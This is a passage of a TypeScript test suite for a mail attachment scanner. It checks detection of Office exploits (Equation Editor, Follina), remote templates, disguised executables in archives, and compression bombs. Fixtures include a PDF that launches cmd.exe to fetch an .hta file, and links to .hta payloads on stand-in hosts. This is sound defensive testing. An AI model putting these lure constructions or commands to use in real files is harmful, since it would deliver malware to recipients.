    assert.deepEqual(await summary([{ filename: 'Bestellung.rtf', content: rtfDocument([{ className: 'Word.Picture.8', native: equationObject(ids) }], { obfuscated: true }) }]), [equation], JSON.stringify(ids));
  }
  assert.deepEqual(await summary([{ filename: 'Bestellung.rtf', content: rtfDocument([{ className: 'Word.Picture.8', native: equationObject({ clsid: false, progId: false }) }]) }]), [], 'neither');
  const many = rtfDocument(Array.from({ length: 5 }, () => ({ className: 'Equation.3', native: Buffer.alloc(64, 0x1c) })));
  assert.deepEqual(await summary([{ filename: 'Bestellung.rtf', content: many }]), [equation], 'one finding for five objects');
  // a link that loads a document from the web, and a template fetched from the web
  assert.deepEqual(await summary([{ filename: 'Info.rtf', content: rtfDocument([{ className: 'OLE2Link', native: webLinkedObject('http://203.0.113.9/invoice.hta') }]) }]), ['remote: Info.rtf (a linked object that loads a document from the web (CVE-2017-0199))']);
  assert.deepEqual(await summary([{ filename: 'Info.rtf', content: rtfDocument([], { template: 'http://203.0.113.9/t.dotm' }) }]), ['macro: Info.rtf (a macro-enabled template fetched from the web (http://203.0.113.9/t.dotm))']);
  assert.deepEqual(await summary([{ filename: 'Info.rtf', content: rtfDocument([], { template: 'http://templates.partner.test/Brief.dotx' }) }]), ['remote: Info.rtf (a template fetched from the web (http://templates.partner.test/Brief.dotx))']);
  // inside a ZIP; an ordinary RTF; not looked into
  assert.deepEqual(await summary([{ filename: 'docs.zip', content: zipArchive([['Bestellung.rtf', many]]) }]), ['exploit: docs.zip > Bestellung.rtf (an Equation Editor object (CVE-2017-11882))']);
  assert.deepEqual(await summary([{ filename: 'Brief.rtf', content: rtfDocument([{ className: 'Paint.Picture', native: Buffer.alloc(300, 7) }]) }]), []);
  assert.deepEqual(await summary([{ filename: 'Brief.rtf', content: Buffer.from('{\\rtf1\\ansi {\\*\\objdata 0105}{\\*\\objdata zz}\\objdata') }]), [], 'damaged objects');
  assert.deepEqual(await summary([{ filename: 'Bestellung.rtf', content: many }], policy({ inspectArchives: false })), []);
});

test('PowerPoint 97–2003: objects and the VBA project stored in the document stream, zlib-compressed or not', async () => {
  // ClamAV's test presentation carries clam.exe as a packaged object
  assert.deepEqual(await summary([{ filename: 'clam.ppt', content: readFileSync(join(CLAMAV_TESTFILES, 'clam.ppt')) }]), ['blocked: clam.ppt > clam.exe (.exe)']);
  for (const compressed of [true, false]) {
    assert.deepEqual(await summary([{ filename: 'Vortrag.ppt', content: powerPointDocument([oleDocument({ macros: true })], { compressed }) }]), ['macro: Vortrag.ppt (an Office document with macros)'], `compressed: ${compressed}`);
  }
  const deck = powerPointDocument([equationObject(), oleDocument({ packaged: { name: 'Agenda.pdf.js', content: Buffer.from('WScript.Shell') } }), equationObject()]);
  assert.deepEqual(await summary([{ filename: 'Agenda.pps', content: deck }]), [
    'exploit: Agenda.pps (an Equation Editor object (CVE-2017-11882))', 'blocked: Agenda.pps > Agenda.pdf.js (.js)', 'deceptive: Agenda.pps > Agenda.pdf.js (.pdf in front of .js)',
  ]);
  assert.deepEqual(await summary([{ filename: 'Vortrag.ppt', content: powerPointDocument([oleDocument()]) }]), [], 'an object without macros');
  assert.deepEqual(await summary([{ filename: 'Vortrag.ppt', content: powerPointDocument([oleDocument({ macros: true })]) }], policy({ maxUnpackBytes: 1000 })), [], 'within the byte budget');
  assert.deepEqual(await summary([{ filename: 'docs.zip', content: zipArchive([['Vortrag.ppt', powerPointDocument([oleDocument({ macros: true })])]]) }]), ['macro: docs.zip > Vortrag.ppt (an Office document with macros)']);
});

test('Office documents that exploit Office or fetch content from the web as they open (OLE2 and OOXML)', async () => {
  const part = (s: string) => Buffer.from(s);
  const rels = (...r: string[]) => part(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${r.join('')}</Relationships>`);
  const rel = (type: string, target: string, external = true) =>
    `<Relationship Id="rId${type.length}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;
  const docx = (extra: Array<[string, Buffer]>) => zipArchive([['[Content_Types].xml', part('<Types/>')], ['word/document.xml', part('<w:document/>')], ...extra]);
  // template injection: the macros come with a macro-enabled template; a plain one, or the company's on SharePoint, is remote content
  const injected = docx([['word/_rels/settings.xml.rels', rels(rel('attachedTemplate', 'https://office-templates.test/Normal.dotm?id=7&amp;x=1'))]]);
  assert.deepEqual(await summary([{ filename: 'Lebenslauf.docx', content: injected }]), ['macro: Lebenslauf.docx (a macro-enabled template fetched from the web (https://office-templates.test/Normal.dotm?id=7&x=1))']);
  for (const template of ['https://mandantenportal.test/vorlagen/Brief.dotx', 'https://contoso.sharepoint.com/sites/Vorlagen/Brief.dotm']) {
    assert.deepEqual(await summary([{ filename: 'Brief.docx', content: docx([['word/_rels/settings.xml.rels', rels(rel('attachedTemplate', template))]]) }]), [`remote: Brief.docx (a template fetched from the web (${template}))`], template);
  }
  // Follina: an external object whose address ends in "!"
  const follina = docx([['word/_rels/document.xml.rels', rels(rel('styles', 'styles.xml', false), rel('oleObject', 'http://203.0.113.9/a.html!'))]]);
  assert.deepEqual(await summary([{ filename: 'Vertrag.docx', content: follina }]), ['exploit: Vertrag.docx (an object that opens a web page with a script (CVE-2022-30190, "Follina"))']);
  assert.deepEqual(fetchedOnOpen(rels(rel('oleObject', 'mhtml:http://203.0.113.9/a.html!x-usc:http://203.0.113.9/a.html')).toString()).map((f) => f.kind), ['exploit']);
  // local templates, hyperlinks and a document's own parts are ordinary
  const ordinary = docx([
    ['word/_rels/settings.xml.rels', rels(rel('attachedTemplate', 'file:///C:\\Users\\anna\\AppData\\Roaming\\Microsoft\\Templates\\Brief.dotx'))],
    ['word/_rels/document.xml.rels', rels(rel('hyperlink', 'https://www.example.com/'), rel('image', 'media/image1.png', false), rel('oleObject', 'embeddings/oleObject1.bin', false))],
  ]);
  assert.deepEqual(await summary([{ filename: 'Brief.docx', content: ordinary }]), []);
  // OLE2: an Equation Editor object in a Word 97–2003 document or an OOXML one, a web-linked object
  assert.deepEqual(await summary([{ filename: 'Formel.docx', content: docx([['word/embeddings/oleObject1.bin', equationObject()]]) }]), ['exploit: Formel.docx (an Equation Editor object (CVE-2017-11882))']);
  assert.deepEqual(await summary([{ filename: 'eq.bin', content: equationObject() }]), ['exploit: eq.bin (an Equation Editor object (CVE-2017-11882))']);
  assert.deepEqual(await summary([{ filename: 'link.doc', content: webLinkedObject('http://203.0.113.9/x.hta') }]), ['remote: link.doc (a linked object that loads a document from the web (CVE-2017-0199))']);
  assert.deepEqual(await summary([{ filename: 'docs.zip', content: zipArchive([['Lebenslauf.docx', injected]]) }]), ['macro: docs.zip > Lebenslauf.docx (a macro-enabled template fetched from the web (https://office-templates.test/Normal.dotm?id=7&x=1))']);
});

test("Outlook messages (.msg): their attachments count like a forwarded message's", async () => {
  const msg = outlookMessage('Lieferschein', [{ name: 'Lieferschein.pdf', content: PDF }, { name: 'Счёт.js', content: Buffer.from('WScript.Shell') }]);
  assert.deepEqual(await summary([{ filename: 'Fwd Lieferschein.msg', content: msg }]), ['blocked: Fwd Lieferschein.msg > Счёт.js (.js)']);
  assert.deepEqual(await summary([{ filename: 'Fwd.msg', content: outlookMessage('x', [{ name: 'Angebot.doc', content: oleDocument({ macros: true }) }]) }]), ['macro: Fwd.msg > Angebot.doc (an Office document with macros)']);
  assert.deepEqual(await summary([{ filename: 'docs.zip', content: zipArchive([['mail.msg', msg]]) }]), ['blocked: docs.zip > mail.msg > Счёт.js (.js)'], 'in a ZIP');
  assert.deepEqual(await summary([{ filename: 'Fwd.msg', content: outlookMessage('x', [{ name: 'photo.jpg', content: Buffer.from('jpeg') }]) }]), []);
});

test('tar and gzip (GNU tar, pax, ustar; gzip with and without the name): their files count like an archive\'s, whatever they are called', async () => {
  const long = `${'Lieferschein_Dezember_2026_Kunde_4471_'.repeat(3)}.pdf.exe`; // over ustar's 100 characters
  const files = [[long, windowsProgram()], ['docs/Angebot.doc', oleDocument({ macros: true })], ['readme.txt', 'hello']] as const;
  const expected = (p: string) => [
    `blocked: ${p} > ${long} (.exe)`, `deceptive: ${p} > ${long} (.pdf in front of .exe)`, `macro: ${p} > Angebot.doc (an Office document with macros)`];
  for (const format of ['gnu', 'posix'] as const) {
    assert.deepEqual(await summary([{ filename: 'Lieferschein.tar', content: tarArchive(files, { format }) }]), expected('Lieferschein.tar'), format);
    assert.deepEqual(await summary([{ filename: 'Lieferschein.tgz', content: tarArchive(files, { format, gzip: true }) }]), expected('Lieferschein.tgz'), `${format}, gzip`);
  }
  // ustar keeps a long path in its prefix field; a program named as a photo, by content
  assert.deepEqual(await summary([{ filename: 'fotos.tar', content: tarArchive([['Urlaub/2026/Sommer/IMG_0042.jpg', windowsProgram()]], { format: 'ustar' }) }]), ['blocked: fotos.tar > IMG_0042.jpg (a Windows program)']);
  // a bare .gz under any name: the name gzip kept, else the file's without ".gz"
  assert.deepEqual(await summary([{ filename: 'Rechnung.gz', content: gzipFile('Rechnung.pdf.js', 'WScript.Shell') }]), ['blocked: Rechnung.gz > Rechnung.pdf.js (.js)', 'deceptive: Rechnung.gz > Rechnung.pdf.js (.pdf in front of .js)']);
  assert.deepEqual(await summary([{ filename: 'scan.pdf.gz', content: gzipFile('x', windowsProgram(), { keepName: false }) }]), ['blocked: scan.pdf.gz > scan.pdf (a Windows program)']);
  assert.deepEqual(await summary([{ filename: 'notes.tar.gz', content: tarArchive([['notes.txt', 'hi']], { gzip: true }) }]), [], 'nothing to find');
  // a gzip bomb (100 MB of zeros in 100 kB) stops at the unpack budget; a damaged one is skipped
  const bomb = gzipFile('big.tar', Buffer.alloc(100_000_000));
  assert.ok(bomb.length < 200_000);
  assert.deepEqual(await summary([{ filename: 'big.tar.gz', content: bomb }]), []);
  assert.deepEqual(await summary([{ filename: 'cut.tgz', content: tarArchive(files, { gzip: true }).subarray(0, 200) }]), []);
  // in a ZIP; off with the archives
  assert.deepEqual(await summary([{ filename: 'mail.zip', content: zipArchive([['a.tgz', tarArchive(files, { gzip: true })]]) }]), expected('mail.zip > a.tgz'));
  assert.deepEqual(await summary([{ filename: 'a.tar', content: tarArchive(files) }], policy({ inspectArchives: false })), []);
});

test('xz files (one block or several, each check type): what they hold counts like gzip\'s, judged under the file\'s name without .xz', async () => {
  const files = [['Rechnung Dezember.pdf.exe', windowsProgram()], ['readme.txt', 'hello']] as const;
  assert.deepEqual(await summary([{ filename: 'Lieferschein.tar.xz', content: tarArchive(files, { xz: true }) }]), [
    'blocked: Lieferschein.tar.xz > Rechnung Dezember.pdf.exe (.exe)', 'deceptive: Lieferschein.tar.xz > Rechnung Dezember.pdf.exe (.pdf in front of .exe)',
  ]);
  // xz keeps no name: the program is found by its bytes, under the attachment's name less ".xz"
  const program = Buffer.concat([windowsProgram(), Buffer.alloc(600_000, 'padding ')]);
  for (const args of [[], ['--check=none'], ['--check=sha256'], ['-9e'], ['--block-size=64KiB']]) {
    assert.deepEqual(await summary([{ filename: 'Rechnung.xz', content: xzFile(program, args) }]), ['blocked: Rechnung.xz > Rechnung (a Windows program)'], args.join(' '));
  }
  assert.deepEqual(await summary([{ filename: 'scan', content: xzFile(program) }]), ['blocked: scan > scan (a Windows program)'], 'by content, whatever it is called');
  assert.deepEqual(await summary([{ filename: 'mail.zip', content: zipArchive([['Rechnung.xz', xzFile(program)]]) }]), ['blocked: mail.zip > Rechnung.xz > Rechnung (a Windows program)']);
  // a bomb (100 MB of zeros in 15 kB) is refused by its chunk headers, before anything is unpacked; damaged or filtered files are skipped
  const bomb = xzFile(Buffer.alloc(100_000_000));
  assert.ok(bomb.length < 20_000);
  assert.equal(await unxzWithin(bomb, 20_000_000), null);
  assert.equal((await unxzWithin(bomb, 100_000_000))?.length, 100_000_000, 'within the budget it unpacks');
  const whole = xzFile(program);
  assert.equal(await unxzWithin(whole.subarray(0, whole.length >> 1), 20_000_000), null, 'cut short');
  assert.equal(await unxzWithin(xzFile(program, ['--x86', '--lzma2']), 20_000_000), null, 'a filter chain is not unpacked');
  assert.deepEqual(await summary([{ filename: 'Rechnung.xz', content: xzFile(program) }], policy({ inspectArchives: false })), []);
});

test('a ZIP\'s files are judged by their bytes as attachments are: disguised programs, shortcuts to shares, forwarded messages, locked files', async () => {
  const shortcut = Buffer.from('[InternetShortcut]\r\nURL=file://203.0.113.7/share/Rechnung.pdf.exe\r\n');
  const forward = Buffer.from(`From: a@b.example\r\nSubject: Rechnung\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nAnbei.\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="Rechnung.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n${windowsProgram().toString('base64')}\r\n--b--\r\n`);
  assert.deepEqual(await summary([{ filename: 'Unterlagen.zip', content: zipArchive([['Rechnung.pdf', windowsProgram()], ['Rechnung.url', shortcut], ['Weiterleitung.eml', forward], ['Notizen.txt', 'hallo']]) }]), [
    'blocked: Unterlagen.zip > Rechnung.pdf (a Windows program)',
    'risky: Unterlagen.zip > Rechnung.url (.url)',
    'blocked: Unterlagen.zip > Rechnung.url (a shortcut to a file on a network share (file://203.0.113.7/share/Rechnung.pdf.exe))',
    'blocked: Unterlagen.zip > Weiterleitung.eml > Rechnung.pdf (a Windows program)',
  ]);
  // a locked entry opened with the mail's password is judged by its bytes, whatever its type
  const locked = zipArchive([['Foto.jpg', windowsProgram()]], { password: 'Re2026' });
  assert.deepEqual((await inspectAttachments([{ filename: 'Fotos.zip', content: locked }], policy(), () => ['Re2026'])).map((f) => `${f.kind}: ${f.path.join(' > ')} (${f.why})`), [
    'blocked: Fotos.zip > Foto.jpg (a Windows program)', 'encrypted: Fotos.zip (password-protected ZIP, opened with the password in the text)',
  ]);
  // the nesting limit holds: the files of a ZIP at the deepest level are listed, not unpacked
  const nested = zipArchive([['b.zip', zipArchive([['Rechnung.pdf', windowsProgram()]])]]);
  assert.deepEqual(await summary([{ filename: 'a.zip', content: nested }], policy({ maxArchiveDepth: 2 })), []);
  assert.deepEqual(await summary([{ filename: 'a.zip', content: nested }], policy({ maxArchiveDepth: 3 })), ['blocked: a.zip > b.zip > Rechnung.pdf (a Windows program)']);
});

test('disk images (ISO 9660, with or without Joliet names): their files count like an archive\'s, whatever the image is called', async () => {
  const files = [['Rechnung Dezember.pdf.exe', windowsProgram()], ['docs/Angebot.doc', oleDocument({ macros: true })], ['readme.txt', 'hello']] as const;
  const iso = isoImage(files);
  assert.deepEqual(await summary([{ filename: 'Rechnung.img', content: iso }]), [
    'risky: Rechnung.img (.img)',
    'blocked: Rechnung.img > Rechnung Dezember.pdf.exe (.exe)',
    'deceptive: Rechnung.img > Rechnung Dezember.pdf.exe (.pdf in front of .exe)',
    'macro: Rechnung.img > Angebot.doc (an Office document with macros)',
  ]);
  // without Joliet, Windows shows the ISO 9660 names: 8.3 capitals, still an .EXE
  assert.deepEqual(await summary([{ filename: 'scan.iso', content: isoImage([['Rechnung Dezember.pdf.exe', windowsProgram()]], { joliet: false }) }]), [
    'risky: scan.iso (.iso)', 'blocked: scan.iso > RECHNUNG.EXE (.exe)',
  ]);
  // a program named as a document, by content
  assert.deepEqual(await summary([{ filename: 'photos.iso', content: isoImage([['IMG_0042.jpg', windowsProgram()]]) }]), ['risky: photos.iso (.iso)', 'blocked: photos.iso > IMG_0042.jpg (a Windows program)']);
  assert.deepEqual(await summary([{ filename: 'photos.iso', content: isoImage([['IMG_0042.jpg', 'jpeg']]) }]), ['risky: photos.iso (.iso)'], 'only the type');
  // in a ZIP; names count beyond the byte budget; off with the archives
  assert.deepEqual(await summary([{ filename: 'x.zip', content: zipArchive([['a.img', iso]]) }]), [
    'risky: x.zip > a.img (.img)',
    'blocked: x.zip > a.img > Rechnung Dezember.pdf.exe (.exe)',
    'deceptive: x.zip > a.img > Rechnung Dezember.pdf.exe (.pdf in front of .exe)',
    'macro: x.zip > a.img > Angebot.doc (an Office document with macros)',
  ]);
  assert.deepEqual(await summary([{ filename: 'Rechnung.img', content: iso }], policy({ maxUnpackBytes: 100 })), [
    'risky: Rechnung.img (.img)',
    'blocked: Rechnung.img > Rechnung Dezember.pdf.exe (.exe)',
    'deceptive: Rechnung.img > Rechnung Dezember.pdf.exe (.pdf in front of .exe)',
  ], 'names only');
  assert.deepEqual(await summary([{ filename: 'Rechnung.img', content: iso }], policy({ inspectArchives: false })), ['risky: Rechnung.img (.img)']);
  assert.deepEqual(await summary([{ filename: 'backup.dat', content: iso }]), [
    'blocked: backup.dat > Rechnung Dezember.pdf.exe (.exe)',
    'deceptive: backup.dat > Rechnung Dezember.pdf.exe (.pdf in front of .exe)',
    'macro: backup.dat > Angebot.doc (an Office document with macros)',
  ], 'an image under any name, by content');
  // damaged: a tree that points past the end, or at itself
  const damaged = Buffer.from(iso);
  damaged.writeUInt32LE(0x7fffff, 16 * 2048 + 156 + 2);
  damaged.writeUInt32LE(0x7fffff, 17 * 2048 + 156 + 2);
  assert.deepEqual(await summary([{ filename: 'broken.img', content: damaged }]), ['risky: broken.img (.img)']);
});

test('RAR archives (5 and 1.5–4): the names inside, password-protected data, encrypted names', async () => {
  // the fixtures are written by the specification; libarchive's bsdtar, another reader, must list them the same way first
  const dir = mkdtempSync(join(tmpdir(), 'mm-rar-'));
  const listedByBsdtar = (b: Buffer): string[] => {
    writeFileSync(join(dir, 'a.rar'), b);
    return execFileSync('bsdtar', ['-tf', join(dir, 'a.rar')], { encoding: 'utf8' }).trim().split('\n');
  };
  try {
    const files = [['Rechnung Dezember.pdf.exe', windowsProgram()], ['docs/Счёт.pdf', PDF]] as const;
    const rar5 = rar5Archive(files);
    assert.deepEqual(listedByBsdtar(rar5), ['Rechnung Dezember.pdf.exe', 'docs/Счёт.pdf']);
    assert.deepEqual(await summary([{ filename: 'Rechnung.rar', content: rar5 }]), [
      'blocked: Rechnung.rar > Rechnung Dezember.pdf.exe (.exe)', 'deceptive: Rechnung.rar > Rechnung Dezember.pdf.exe (.pdf in front of .exe)',
    ]);
    const rar4 = rar4Archive([['invoice.js', 'WScript.Shell'], ['docs\\readme.txt', 'hi']]);
    assert.deepEqual(listedByBsdtar(rar4), ['invoice.js', 'docs/readme.txt']);
    assert.deepEqual(await summary([{ filename: 'scan.pdf', content: rar4 }]), ['blocked: scan.pdf > invoice.js (.js)'], 'by content, whatever its name');
    assert.deepEqual(await summary([{ filename: 'docs.rar', content: rar5Archive([['Angebot.pdf', PDF]]) }]), []);
    // a password: the names still show, and the archive is one no scanner can open
    const locked = rar5Archive([['Angebot.pdf', PDF]], { encrypted: true });
    assert.deepEqual(listedByBsdtar(locked), ['Angebot.pdf']);
    assert.deepEqual(await summary([{ filename: 'Angebot.rar', content: locked }]), ['encrypted: Angebot.rar (password-protected RAR)']);
    assert.deepEqual(await summary([{ filename: 'a.rar', content: rar4Archive([['a.pdf', PDF]], { encrypted: true }) }]), ['encrypted: a.rar (password-protected RAR)']);
    assert.deepEqual(await summary([{ filename: 'a.rar', content: rar5Archive([['x.exe', 'x']], { hiddenNames: true }) }]), ['encrypted: a.rar (RAR archive with encrypted names)']);
    // inside a ZIP; cut short; archives off
    assert.deepEqual(await summary([{ filename: 'mail.zip', content: zipArchive([['Rechnung.rar', rar5]]) }]), [
      'blocked: mail.zip > Rechnung.rar > Rechnung Dezember.pdf.exe (.exe)', 'deceptive: mail.zip > Rechnung.rar > Rechnung Dezember.pdf.exe (.pdf in front of .exe)',
    ]);
    assert.deepEqual(await summary([{ filename: 'cut.rar', content: rar5.subarray(0, 60) }]), []);
    assert.deepEqual(await summary([{ filename: 'Rechnung.rar', content: rar5 }], policy({ inspectArchives: false })), []);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('RAR 5: a file header whose extra area claims more than the header holds ends the listing, not the worker', async () => {
  const vint = (n: number): number[] => { const o: number[] = []; do { o.push((n % 128) | (n >= 128 ? 0x80 : 0)); n = Math.floor(n / 128); } while (n); return o; };
  const block = (fields: number[]): Buffer => Buffer.from([0, 0, 0, 0, ...vint(fields.length), ...fields]); // CRC not checked here
  const name = [...Buffer.from('Rechnung.exe')];
  // type 2 (file), flags 1 (an extra area) of 2^40 bytes, then the file's fields and name
  const file = block([2, 1, ...vint(2 ** 40), 0, 0, 0, 0, 0, name.length, ...name]);
  const rar = Buffer.concat([Buffer.from([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00]), block([1, 0, 0]), file, block([5, 0, 0])]);
  // before, the records were read from 2^40 bytes before the header, one byte at a time
  assert.deepEqual(await summary([{ filename: 'a.rar', content: rar }]), ['blocked: a.rar > Rechnung.exe (.exe)']);
});

test('PDF documents: files attached inside them are judged like attachments', async () => {
  const pdf = pdfDocument({ attachments: [{ name: 'Rechnung.pdf.exe', content: windowsProgram() }, { name: 'Daten.zip', content: zipArchive([['run.vbs', 'x']]) }, { name: 'Preise.csv', content: 'a;b' }] });
  assert.deepEqual(await summary([{ filename: 'Rechnung.pdf', content: pdf }]), [
    'blocked: Rechnung.pdf > Rechnung.pdf.exe (.exe)', 'deceptive: Rechnung.pdf > Rechnung.pdf.exe (.pdf in front of .exe)',
    'blocked: Rechnung.pdf > Daten.zip > run.vbs (.vbs)',
  ]);
  assert.deepEqual(await summary([{ filename: 'scan.pdf', content: pdfDocument({ attachments: [{ name: 'photo.jpg', content: windowsProgram() }] }) }]), ['blocked: scan.pdf > photo.jpg (a Windows program)'], 'by content');
  assert.deepEqual(await summary([{ filename: 'Rechnung.pdf', content: pdfDocument({ links: ['https://example.com/'] }) }]), []);
  assert.deepEqual(await summary([{ filename: 'Rechnung.pdf', content: pdf }], policy({ inspectArchives: false })), []);
});

test('PDF documents that start a program or run JavaScript as they open; views and form scripts do not count', async () => {
  assert.deepEqual(await summary([{ filename: 'Rechnung.pdf', content: pdfDocument({ openAction: { launch: 'cmd.exe', parameters: '/c start https://x.test/a.hta' } }) }]),
    ['exploit: Rechnung.pdf (a PDF that starts a program: /Launch cmd.exe with parameters)']);
  assert.deepEqual(await summary([{ filename: 'R.pdf', content: pdfDocument({ openAction: { launch: 'setup.js' } }) }]), ['exploit: R.pdf (a PDF that starts a program: /Launch setup.js)']);
  // TeX manuals open their other volumes so: a link between documents
  assert.deepEqual(await summary([{ filename: 'Handbuch.pdf', content: pdfDocument({ openAction: { launch: 'Kapitel2.pdf' } }) }]), []);
  assert.deepEqual(await summary([{ filename: 'Scan.pdf', content: pdfDocument({ openAction: { javascript: 'x()' }, escapedNames: true, rewrite: false }) }]),
    ['pdf-script: Scan.pdf (JavaScript that runs as the PDF opens)']);
  assert.deepEqual(await summary([{ filename: 'docs.zip', content: zipArchive([['Angebot.pdf', pdfDocument({ documentScript: 'this.print()' })]]) }]),
    ['pdf-script: docs.zip > Angebot.pdf (JavaScript that runs as the PDF opens)'], 'inside an archive');
  assert.deepEqual(await summary([{ filename: 'docs.zip', content: zipArchive([['Rechnung.pdf', pdfDocument({ attachments: [{ name: 'Beleg.exe', content: windowsProgram() }] })]]) }]),
    ['blocked: docs.zip > Rechnung.pdf > Beleg.exe (.exe)'], 'a file attached in a PDF in a ZIP');
  assert.deepEqual(await summary([{ filename: 'Formular.pdf', content: pdfDocument({ openAction: 'fit', fieldScript: 'AFSimple_Calculate("SUM")' }) }]), []);
  // the check's symbols
  const pdf = pdfDocument({ openAction: { launch: 'cmd.exe', parameters: '/c x' }, documentScript: 'x()' });
  const raw = Buffer.from(`From: a@b.test\r\nSubject: s\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="B"\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nx\r\n--B\r\nContent-Type: application/pdf; name="R.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n${pdf.toString('base64')}\r\n--B--\r\n`);
  const view = await parseMessage(raw);
  const ctx = { session: session(), envelope: { mailFrom: 'a@b.test', recipients: ['x@example.com'] }, raw, parsed: async () => view, auth: async () => { throw new Error('unused'); } } as unknown as DataContext;
  const hits = await attachmentsCheck.run(ctx, { options: attachmentsOptionsSchema.parse({}), config: testConfig(), store: fakeStore(), log: quietLog, signal: new AbortController().signal } as CheckDeps<AttachmentsOptions>);
  assert.deepEqual(hits.map((h) => h.symbol), ['ATTACH_EXPLOIT', 'ATTACH_PDF_SCRIPT']);
});

test('7-Zip archives: the names in the LZMA-compressed header, password-protected data, encrypted names', async () => {
  const files = [['Rechnung Dezember.pdf.exe', windowsProgram()], ['docs/Счёт.pdf', PDF], ['leer.txt', '']] as const;
  const archive = sevenZipArchive(files);
  // 7-Zip itself lists the same files
  assert.deepEqual(sevenZipNames(archive), ['leer.txt', 'Rechnung Dezember.pdf.exe', 'docs/Счёт.pdf']);
  assert.deepEqual(await summary([{ filename: 'Rechnung.7z', content: archive }]), [
    'blocked: Rechnung.7z > Rechnung Dezember.pdf.exe (.exe)', 'deceptive: Rechnung.7z > Rechnung Dezember.pdf.exe (.pdf in front of .exe)',
  ]);
  assert.deepEqual(await summary([{ filename: 'scan.pdf', content: sevenZipArchive([['scan.js', 'WScript.Shell']], { method: 'lzma' }) }]), ['blocked: scan.pdf > scan.js (.js)'], 'by content, whatever its name');
  assert.deepEqual(await summary([{ filename: 'docs.7z', content: sevenZipArchive([['Angebot.pdf', PDF], ['Preise.xlsx', 'x']]) }]), []);
  // ClamAV's own test archive (Debian clamav-testfiles)
  assert.deepEqual(await summary([{ filename: 'clam.7z', content: readFileSync(join(CLAMAV_TESTFILES, 'clam.7z')) }]), ['blocked: clam.7z > clam.exe (.exe)']);
  // a password: the names still show; with -mhe the names are encrypted too
  const locked = sevenZipArchive([['Angebot.pdf', PDF]], { password: 'geheim' });
  assert.deepEqual(sevenZipNames(locked), ['Angebot.pdf']);
  assert.deepEqual(await summary([{ filename: 'Angebot.7z', content: locked }]), ['encrypted: Angebot.7z (password-protected 7-Zip archive)']);
  assert.deepEqual(await summary([{ filename: 'Angebot.7z', content: sevenZipArchive([['x.exe', 'x']], { password: 'geheim', encryptNames: true }) }]), ['encrypted: Angebot.7z (7-Zip archive with encrypted names)']);
  // inside a ZIP; cut short or damaged; archives off
  assert.deepEqual(await summary([{ filename: 'mail.zip', content: zipArchive([['Rechnung.7z', archive]]) }]), [
    'blocked: mail.zip > Rechnung.7z > Rechnung Dezember.pdf.exe (.exe)', 'deceptive: mail.zip > Rechnung.7z > Rechnung Dezember.pdf.exe (.pdf in front of .exe)',
  ]);
  assert.deepEqual(await summary([{ filename: 'cut.7z', content: archive.subarray(0, archive.length - 20) }]), []);
  const damaged = Buffer.from(archive);
  damaged.fill(0x55, damaged.length - 30, damaged.length - 10);
  assert.deepEqual(await summary([{ filename: 'bad.7z', content: damaged }]), []);
  assert.deepEqual(await summary([{ filename: 'Rechnung.7z', content: archive }], policy({ inspectArchives: false })), []);
});

test('7-Zip archives without a password: their archives, documents and web pages are unpacked and judged by their bytes, as a ZIP\'s are', async () => {
  const part = (s: string) => Buffer.from(s);
  const macroDocx = zipArchive([['[Content_Types].xml', part('<Types/>')], ['word/document.xml', part('<w:document/>')], ['word/vbaProject.bin', oleDocument({ macros: true })]]);
  const archive = sevenZipArchive([
    ['Rechnung.zip', zipArchive([['Rechnung.pdf.exe', windowsProgram()]])],
    ['Lieferschein.pdf', windowsProgram()],
    ['Angebot.docx', macroDocx],
    ['Fax_0042.shtml', LOGIN_PAGE],
    ['Foto.jpg', windowsProgram()],
    ['Notizen.txt', 'hallo'],
  ]);
  assert.deepEqual(sevenZipNames(archive).sort(), ['Angebot.docx', 'Fax_0042.shtml', 'Foto.jpg', 'Lieferschein.pdf', 'Notizen.txt', 'Rechnung.zip']);
  assert.deepEqual((await summary([{ filename: 'Unterlagen.7z', content: archive }])).sort(), [
    'blocked: Unterlagen.7z > Lieferschein.pdf (a Windows program)',
    'blocked: Unterlagen.7z > Rechnung.zip > Rechnung.pdf.exe (.exe)',
    'deceptive: Unterlagen.7z > Rechnung.zip > Rechnung.pdf.exe (.pdf in front of .exe)',
    'macro: Unterlagen.7z > Angebot.docx (an Office document with macros)',
    'phish-page: Unterlagen.7z > Fax_0042.shtml (a web page that asks for a password)',
    'risky: Unterlagen.7z > Fax_0042.shtml (.shtml)',
  ], 'a picture is judged by name, as in a ZIP (clamd unpacks it for its signatures)');
  // each file met once: its path is listed once
  const { paths } = await inspectAttachmentFiles([{ filename: 'Unterlagen.7z', content: archive }], policy());
  assert.equal(paths.filter((p) => p.join(' > ') === 'Unterlagen.7z > Lieferschein.pdf').length, 1);
  // solid or not, LZMA or LZMA2
  for (const o of [{ method: 'lzma' as const }, { solid: false }]) {
    const one = sevenZipArchive([['Rechnung.zip', zipArchive([['Rechnung.pdf.js', 'WScript.Shell']])], ['a.txt', 'x']], o);
    assert.deepEqual(await summary([{ filename: 'r.7z', content: one }]), [
      'blocked: r.7z > Rechnung.zip > Rechnung.pdf.js (.js)', 'deceptive: r.7z > Rechnung.zip > Rechnung.pdf.js (.pdf in front of .js)',
    ], JSON.stringify(o));
  }
  // the limits hold as for a ZIP: nesting, the unpack budget, archives off
  const nested = sevenZipArchive([['b.zip', zipArchive([['Rechnung.pdf', windowsProgram()]])]]);
  assert.deepEqual(await summary([{ filename: 'a.7z', content: nested }], policy({ maxArchiveDepth: 3 })), ['blocked: a.7z > b.zip > Rechnung.pdf (a Windows program)']);
  assert.deepEqual(await summary([{ filename: 'a.7z', content: nested }], policy({ maxArchiveDepth: 2 })), [], 'the ZIP at the deepest level is not opened');
  assert.deepEqual(await summary([{ filename: 'a.7z', content: nested }], policy({ maxUnpackBytes: 100 })), [], 'a folder bigger than the budget is not unpacked');
